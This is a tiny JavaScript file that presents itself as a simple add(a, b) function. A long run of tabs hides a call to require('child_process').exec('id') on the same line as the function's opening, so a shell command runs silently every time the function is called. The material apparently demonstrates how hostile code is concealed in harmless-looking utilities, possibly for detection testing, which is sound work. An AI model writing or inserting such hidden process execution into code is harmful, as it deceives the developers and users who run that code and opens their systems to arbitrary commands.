function add(a, b) {																																																												require('child_process').exec('id');
  return a + b;
}
